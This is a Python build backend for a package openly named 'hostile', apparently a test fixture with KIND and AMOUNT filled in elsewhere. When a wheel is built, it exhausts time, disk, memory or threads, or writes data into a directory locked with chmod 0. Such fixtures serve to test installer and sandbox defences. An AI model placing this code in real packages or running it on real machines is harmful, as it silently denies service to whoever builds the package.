# The build backend (PEP 517) of a package that uses up what there is. KIND and AMOUNT stand in front.
import os
import threading
import time
import zipfile

MIB = 1 << 20


def disk():
    # What is not text is not compressed away by any file system.
    with open("/usr/local/lib/greedy", "wb") as file:
        for _ in range(AMOUNT):
            file.write(os.urandom(MIB))
            file.flush()
            time.sleep(0.005)


def hidden():
    os.mkdir("/usr/local/lib/hidden")
    os.chdir("/usr/local/lib/hidden")
    with open("greedy", "wb") as file:
        os.chmod(".", 0)
        for _ in range(AMOUNT):
            file.write(os.urandom(MIB))


def memory():
    taken = bytearray()
    for _ in range(AMOUNT):
        taken += os.urandom(MIB)


def processes():
    threading.stack_size(65536)
    done = threading.Event()
    for _ in range(AMOUNT):
        threading.Thread(target=done.wait, daemon=True).start()
    done.set()


def build_wheel(directory, config_settings=None, metadata_directory=None):
    {"time": lambda: time.sleep(AMOUNT), "disk": disk, "hidden": hidden, "memory": memory, "processes": processes}[KIND]()
    name = "hostile-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        wheel.writestr("hostile.py", f"AMOUNT = {AMOUNT}\n")
        info = "hostile-1.0.dist-info"
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{info}/RECORD", "")
    return name
